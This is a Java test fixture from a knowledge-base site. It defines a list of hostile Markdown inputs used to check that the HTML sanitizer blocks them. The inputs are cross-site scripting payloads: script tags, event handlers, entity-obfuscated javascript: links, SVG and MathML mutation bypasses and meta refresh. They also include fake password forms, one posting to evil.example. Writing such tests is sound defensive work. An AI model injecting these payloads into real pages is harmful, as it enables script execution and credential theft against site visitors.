package nl.kennisbank.site;

import java.util.List;

/**
 * Raw HTML an attacker would put in a Markdown body: each one, if it ran, would set the page title to
 * {@link #MARK}, load {@code /boos.js} (which does the same), navigate to {@code /gestolen.html} or show a password
 * form. Shared by the hostile-input tests and the browser test.
 */
final class HtmlAttacks {

    static final String MARK = "GEHACKT";
    private static final String RUN = "document.title='" + MARK + "'";

    /** A named attack. */
    record Attack(String name, String markdown) {}

    static final List<Attack> ALL = List.of(
            new Attack("comment closed on the next line", "<!--\n--><script src=\"/boos.js\"></script>"),
            new Attack("empty comment before an image", "<!-- a --><!--><img src=x onerror=\"" + RUN + "\">-->"),
            new Attack(
                    "meta refresh after a comment",
                    "<!-- --><meta http-equiv=\"refresh\" content=\"0;url=/gestolen.html\">"),
            new Attack(
                    "iframe with a password form",
                    "<iframe srcdoc=\"<form><input type=password name=wachtwoord></form>\"></iframe>"),
            new Attack(
                    "password form",
                    "<form action=\"https://evil.example/\"><input type=\"password\" name=\"w\"><button>Inloggen</button></form>"),
            new Attack("tag split around a script", "a <scr<script>ipt>" + RUN + "</script> b"),
            new Attack("script in the middle of a paragraph", "Tekst <script>" + RUN + "</script> en meer tekst."),
            new Attack("image with onerror", "<img src=x onerror=\"" + RUN + "\" alt=\"x\">"),
            new Attack("tab entity inside javascript:", "<a href=\"jav&#x09;ascript:" + RUN + "\">klik</a>"),
            new Attack("decimal entities spelling javascript:", "<a href=\"&#106;&#97;vascript:" + RUN + "\">klik</a>"),
            new Attack("javascript: after spaces", "<a href=\"  javascript:" + RUN + "\">klik</a>"),
            new Attack(
                    "data: page in a link",
                    "<a href=\"data:text/html,&lt;script&gt;" + RUN + "&lt;/script&gt;\">klik</a>"),
            new Attack("data: SVG as image", "<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\" alt=\"x\">"),
            new Attack(
                    "SVG with onload and a javascript: link",
                    "<svg onload=\"" + RUN + "\"><a href=\"javascript:" + RUN + "\"><text>x</text></a></svg>"),
            new Attack(
                    "SVG animate changing a link",
                    "<svg><a><animate attributeName=\"href\" values=\"javascript:" + RUN
                            + "\"/><text y=\"20\">klik</text></a></svg>"),
            new Attack(
                    "MathML namespace confusion",
                    "<math><mtext><table><mglyph><style><img src=x onerror=\"" + RUN + "\">"),
            new Attack(
                    "noscript attribute breakout",
                    "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\"></noscript>"),
            new Attack("base element", "<base href=\"https://evil.example/\">"),
            new Attack("style attribute", "<p style=\"background:url(javascript:" + RUN + ")\">stijl</p>"),
            new Attack("style element", "<style>main{display:none}</style>"),
            new Attack("object and embed", "<object data=\"/boos.js\"></object><embed src=\"/boos.js\">"),
            new Attack("details ontoggle", "<details open ontoggle=\"" + RUN + "\"><summary>x</summary></details>"),
            new Attack("event handler on a safe element", "<b onmouseover=\"" + RUN + "\">vet</b>"),
            new Attack("html block in a quote", "> <div\n> onclick=\"" + RUN + "\">citaat</div>"));

    private HtmlAttacks() {}
}
